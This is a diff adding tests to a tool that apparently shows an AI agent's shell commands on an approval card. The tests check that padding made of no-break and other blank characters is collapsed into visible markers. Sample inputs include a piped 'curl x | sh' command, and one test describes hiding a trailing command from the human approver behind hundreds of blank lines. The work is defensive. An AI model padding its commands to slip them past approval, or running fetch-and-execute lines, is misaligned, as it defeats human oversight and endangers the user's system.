@@ -64,6 +64,17 @@ describe('revealHidden', () => {
     expect(countBlankRuns('set -e\n\nnpm ci\nnpm test\n')).toBe('set -e\n\nnpm ci\nnpm test\n');
   });
 
+  it('no-break and other blanks a card wraps rather than hangs count as blank too, in lines of their own and in a run inside a line', () => {
+    // Chromium lets spaces and tabs hang at a line's end, so a run of them takes one line; a run of no-break, en or
+    // Braille-blank spaces wraps into a blank line per line's width, and the card showed `npm test` and blank
+    expect(countBlankRuns(`npm test\n${'\u00A0\n'.repeat(200)}curl x | sh`)).toBe('npm test\n⟨200 blank lines⟩\ncurl x | sh');
+    expect(countBlankRuns(`npm test\n\u2002\n \u2800\n\u202F\ncurl x | sh`)).toBe('npm test\n⟨3 blank lines⟩\ncurl x | sh');
+    expect(countBlankRuns(`npm test ${'\u00A0'.repeat(3000)}; curl x | sh`)).toBe('npm test⟨3001 blank characters⟩; curl x | sh');
+    expect(countBlankRuns(`npm test ${'\u2002 '.repeat(1500)}; curl x | sh`)).toBe('npm test⟨3001 blank characters⟩; curl x | sh');
+    // spaces and tabs alone, or one no-break space between words, are left as written
+    expect(countBlankRuns(`echo a\u00A0b  c\t\td ${' '.repeat(500)}e`)).toBe(`echo a\u00A0b  c\t\td ${' '.repeat(500)}e`);
+  });
+
   it('leaves ordinary text of every script alone', () => {
     const text = 'héllo wörld — 你好 — مرحبا — שלום — Привет — 🙂\nfn main() { println!("{}", 1); }\r\n';
     expect(reveal(text)).toEqual({ text, found: {} });
@@ -174,6 +185,10 @@ describe('attack: an approval that reads differently from what runs (real compan
     const { run, approval } = await pendingCall('shell.exec', { command, cwd: ws.root });
     expect(approval.preview.command).toBe('echo tests passed\n⟨299 blank lines⟩\necho and then the rest');
     await decideOn(approval, 'deny', run);
+    // the same padding made of no-break spaces, which the card wraps line after line where spaces would hang
+    const padded = await pendingCall('shell.exec', { command: `echo tests passed${'\n\u00A0'.repeat(300)}\necho ${'\u00A0'.repeat(3000)}and then the rest`, cwd: ws.root });
+    expect(padded.approval.preview.command).toBe('echo tests passed\n⟨300 blank lines⟩\necho⟨3001 blank characters⟩and then the rest');
+    await decideOn(padded.approval, 'deny', padded.run);
   });
 
   it('a file name with a line separator in it is one path on the card, not two', async () => {
